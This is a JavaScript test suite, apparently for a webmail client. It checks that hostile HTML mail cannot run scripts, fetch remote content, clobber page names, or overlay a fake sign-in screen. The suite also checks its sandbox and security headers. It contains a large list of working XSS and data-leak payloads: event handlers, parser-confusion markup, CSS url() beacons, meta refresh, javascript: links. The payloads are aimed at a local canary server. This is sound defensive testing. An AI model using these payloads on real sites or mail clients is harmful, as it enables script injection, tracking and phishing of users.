// Mail that attacks: nothing in it runs, nothing of it is fetched, nothing of the page is changed by it.

import assert from 'node:assert/strict';
import {after, before, test} from 'node:test';
import {close, look, openRow, openSignedIn, start, stop} from './browser.mjs';
import {api, canary, deliver, eventually, world} from './world.mjs';

let spy;
before(async () => {
    await start();
    spy = await canary();
});
after(async () => {
    await stop();
    spy.close();
});

const RUN = 'top.owned=1,parent.owned=1,window.owned=1';

/** Each tries to run something, to fetch something, or to take the page over. u: an address that must not be asked. */
const vectors = u => ({
    'a script': `<script>${RUN};fetch('${u}')</script><script src="${u}"></script><script type="module">import '${u}'</script>`,
    'a handler': `<img src=x onerror="${RUN};fetch('${u}')"><body onload="${RUN}"><details open ontoggle="${RUN}"><input autofocus onfocus="${RUN}">`,
    "an animation's handler": `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${RUN}">x</p><marquee onstart="${RUN}">x</marquee>`,
    svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="${u}"/><use href="${u}#x"/><animate onbegin="${RUN}" attributeName=x dur=1s /><foreignObject><img src="${u}"></foreignObject></svg>`,
    'what parsers read differently': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    'a namespace confused': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    'a template': `<template><img src="${u}" onerror="${RUN}"></template><div><template shadowrootmode=open><img src="${u}"></template></div>`,
    images: `<img src="${u}"><img srcset="${u} 2x"><img src="//${new URL(u).host}/relative"><picture><source srcset="${u}"><img alt=""></picture><input type=image src="${u}"><img lowsrc="${u}" dynsrc="${u}">`,
    backgrounds: `<body background="${u}"><table background="${u}"><tr><td background="${u}">x</td></tr></table>`,
    styles: `<style>@import '${u}';@import url(${u});@font-face{font-family:a;src:url(${u})}p{font-family:a;background:url(${u});list-style:url(${u});cursor:url(${u}),auto}p::before{content:url(${u})}</style><p>x</p>`,
    'an escaped style': `<p style="background-image:u\\72l(${u})">x</p><p style="background:image-set('${u}' 1x)">x</p><style>p{background:\\75 rl("${u}")}</style>`,
    'links of the head': `<link rel=stylesheet href="${u}"><link rel=preload as=image href="${u}"><link rel=prefetch href="${u}"><link rel=icon href="${u}"><link rel=modulepreload href="${u}"><link rel=preconnect href="${u}">`,
    'a refresh': `<meta http-equiv=refresh content="0;url=${u}"><meta http-equiv="Content-Security-Policy" content="img-src *">`,
    'a base': `<base href="${u}/"><img src="picture"><a href="x">y</a>`,
    frames: `<iframe src="${u}"></iframe><iframe srcdoc="<img src='${u}'>"></iframe><frameset><frame src="${u}"></frameset><object data="${u}"></object><embed src="${u}"><portal src="${u}"></portal>`,
    media: `<video src="${u}" poster="${u}" autoplay></video><audio src="${u}" autoplay></audio><video><source src="${u}"><track src="${u}" default></video>`,
    'a form': `<form action="${u}" id=f><input name=password><button>Sign in</button></form><button form=f formaction="${u}">x</button>`,
    'names of the page': `<p id="app">x</p><form id="toasts" name="location"></form><a id="announce" href="x">x</a><img name="body"><img name="documentElement" id="getElementById">`,
    'a cover': `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has ended. Sign in.</div>`,
    'an endless page': `<div style="height:1000000vh">tall</div><style>body{min-height:200vh}</style>`,
    'a plaintext': `<plaintext><img src="${u}" onerror="${RUN}">`,
    'a comment': `<!--><img src=x onerror="${RUN}">--><![CDATA[<img src=x onerror=${RUN}>]]><?x <img src=x onerror=${RUN}>?>`,
});

test('nothing in a message runs, and nothing of it is fetched', async () => {
    const names = Object.keys(vectors(spy.url));
    for (const [i, name] of names.entries())
        await deliver({subject: `Vector ${i}: ${name}`, html: `<h1>Read me</h1>${vectors(`${spy.url}/${i}`)[name]}`});
    const listed = (await api('GET', '/inbox?limit=100')).messages;
    const page = await openSignedIn();
    page.context().on('page', () => assert.fail('a window was opened'));
    for (const [i, name] of names.entries()) {
        const subject = `Vector ${i}: ${name}`;
        await page.evaluate(
            id => {
                location.hash = `#/inbox/${id}`;
            },
            listed.find(m => m.subject === subject).id,
        );
        await page.getByRole('heading', {name: subject}).waitFor();
        const frame = page.locator(`iframe[title="Text of: ${subject}"]`);
        await frame.contentFrame().getByText('Read me').waitFor();
        assert.deepEqual((await frame.getAttribute('sandbox')).split(' ').sort(), [
            'allow-popups',
            'allow-popups-to-escape-sandbox',
            'allow-same-origin',
        ]);
        // What runs late, runs within a turn of the page's own clock; what would be fetched is asked for by then.
        await page.evaluate(() => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve, 30))));
        const owned = await page.evaluate(() =>
            [window.owned, ...[...document.querySelectorAll('iframe')].map(f => f.contentWindow.owned)].some(Boolean),
        );
        assert.equal(owned, false, name);
        assert.ok((await frame.boundingBox()).height < 70000, name);
        assert.equal(await page.evaluate(() => location.hash.startsWith('#/inbox/')), true, name);
        assert.ok(await page.getByRole('searchbox').isVisible(), name);
    }
    await page.getByRole('link', {name: /^Inbox/}).click(); // whatever was put off until the frame is gone
    assert.deepEqual(spy.asked, []);
    await look(page, 'hostile');
    await close(page);
});

test('the page and the frame say what they may do: no scripts but ours, none in the frame, no names looked up ahead', async () => {
    const said = async path => Object.fromEntries((await fetch(world.url + path)).headers);
    const page = await said('/');
    const frame = await said('/frame');
    const withImages = await said('/frame?images=1');
    assert.match(page['content-security-policy'], /default-src 'none'; script-src 'self'; style-src 'self';/);
    for (const f of [frame, withImages]) {
        assert.match(f['content-security-policy'], /default-src 'none'/);
        assert.match(
            f['content-security-policy'],
            /sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox(?:;|$)/,
        );
        assert.doesNotMatch(f['content-security-policy'], /script|connect|font|media|frame-src/);
    }
    assert.match(frame['content-security-policy'], /img-src 'self' data:;/);
    assert.match(withImages['content-security-policy'], /img-src 'self' data: https: http:;/);
    for (const each of [page, frame, withImages]) {
        assert.equal(each['x-dns-prefetch-control'], 'off');
        assert.equal(each['referrer-policy'], 'no-referrer');
    }
});

test('images of others are fetched when they are asked for, and not before; scripts not even then', async () => {
    await deliver({
        subject: 'A newsletter',
        html: `<p>News</p><img src="${spy.url}/wanted.png" alt="photo"><img src="${spy.url}/wanted2.png" onload="${RUN}"><script src="${spy.url}/script.js"></script>`,
    });
    const page = await openSignedIn();
    await openRow(page, 'A newsletter');
    await page.getByText(/^Images from elsewhere are not loaded/).waitFor();
    assert.deepEqual(spy.asked, []);
    await page.getByRole('button', {name: 'Show images'}).click();
    await eventually(() => spy.asked.length === 2, 'the images');
    assert.deepEqual(spy.asked.map(line => line.split('/').pop()).sort(), ['wanted.png', 'wanted2.png']);
    assert.equal(await page.evaluate(() => window.owned), undefined);
    page.strangers.length = 0; // they were asked for
    spy.asked.length = 0;
    await close(page);
});

test('a link opens elsewhere without telling where from, and leads where its tooltip says', async () => {
    await deliver({
        subject: 'Where to',
        html: `<a href="${spy.url}/there">https://bank.example</a> <a href="javascript:${RUN}">run</a> <a href="data:text/html,<script>${RUN}</script>">data</a> <a href="/api/v1/account">ours</a>`,
    });
    const page = await openSignedIn();
    await openRow(page, 'Where to');
    const links = page.locator('iframe.mail-frame').contentFrame().locator('a');
    await links.first().waitFor();
    assert.deepEqual(await links.evaluateAll(all => all.map(a => [a.textContent, a.getAttribute('href'), a.rel, a.target])), [
        ['https://bank.example', `${spy.url}/there`, 'noopener noreferrer', '_blank'],
        ['run', null, '', ''],
        ['data', null, '', ''],
        ['ours', null, '', ''],
    ]);
    assert.equal(await links.first().getAttribute('title'), `${spy.url}/there`);
    const [opened] = await Promise.all([page.context().waitForEvent('page'), links.first().click()]);
    await opened.waitForURL(`${spy.url}/there`);
    assert.deepEqual(await opened.evaluate(() => [window.opener, document.referrer]), [null, '']);
    page.strangers.length = 0; // it was clicked
    spy.asked.length = 0;
    await close(page);
});

test('names, subjects and file names are text', async () => {
    const markup = `<img src=x onerror=${RUN}>`;
    const encoded = `=?utf-8?B?${Buffer.from(markup).toString('base64')}?=`;
    await deliver({
        from: `${encoded} <evil@elsewhere.test>`,
        subject: `${markup} subject`,
        text: `${markup} text`,
        files: [
            {name: `${markup}.html`, type: 'text/html', content: `<script>${RUN}</script>`},
            {name: 'x.svg', type: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`},
        ],
    });
    const page = await openSignedIn();
    await openRow(page, `${markup} subject`);
    await page.getByRole('heading', {name: `${markup} subject`}).waitFor();
    await page.getByText(`${markup} text`).last().waitFor();
    await page.getByText(`${markup}.html`).waitFor();
    await page.getByRole('button', {name: 'Show details'}).click();
    assert.equal(await page.locator('#app img[src="x"]').count(), 0);
    assert.equal(await page.evaluate(() => window.owned), undefined);
    const {id} = (await api('GET', '/inbox')).messages.find(m => m.subject === `${markup} subject`);
    for (const n of [1, 2]) {
        const headers = await page.evaluate(
            async path => Object.fromEntries((await fetch(path)).headers),
            `/api/v1/messages/${id}/attachments/${n}`,
        );
        assert.match(headers['content-disposition'], /^attachment/);
        assert.equal(headers['x-content-type-options'], 'nosniff');
    }
    await close(page);
});
